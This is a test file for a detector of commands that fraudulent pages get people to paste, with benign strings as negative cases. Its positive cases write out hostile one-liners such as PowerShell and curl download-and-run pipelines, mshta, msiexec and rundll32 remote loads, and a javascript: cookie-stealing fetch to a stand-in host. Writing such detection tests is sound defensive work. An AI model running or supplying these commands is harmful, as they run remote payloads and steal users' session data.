/**
 * What is a command for the computer, as fraudulent pages have people paste it, and what people copy otherwise.
 */
import { expect, it } from 'vitest';
import { isCommand } from '../../../src/signals/copied-command.ts';

it.each([
  'powershell -w hidden -c "iwr https://site.example/a.ps1 | iex"',
  'PowerShell.exe -eNc SQBFAFgA # I am not a robot: verification 4711',
  'p^ower^shell -NoP -c x',
  'mshta https://site.example/verify.hta',
  'cmd /c start /min curl -s https://site.example/a.bat -o %TEMP%\\a.bat && %TEMP%\\a.bat',
  'C:\\Windows\\System32\\rundll32.exe \\\\203.0.113.9\\share\\a.dll,Start',
  'msiexec /i https://site.example/a.msi /qn',
  'conhost.exe --headless powershell',
  'curl -fsSL https://site.example/install.sh | bash',
  'echo "Y3VybA==" | base64 -d | sh',
  '/bin/bash -c "$(curl -fsSL https://site.example/i.sh)"',
  'osascript -e \'do shell script "x"\'',
  'javascript:fetch("https://site.example/?"+document.cookie)',
])('%s', (text) => {
  expect(isCommand(text)).toBe(true);
});

it.each([
  '',
  'Order 4711, 27 November',
  '0x52908400098527886E0F7030069857D2E4169EE7',
  'https://site.example/curl?q=bash',
  'The power of the shell on the beach',
  'Please call cmd or Anna at 5',
  '转账给 李华 6222 0000 0000 0000',
  'My fingers are cold; the weather: 3 | 4',
])('not: %s', (text) => {
  expect(isCommand(text)).toBe(false);
});
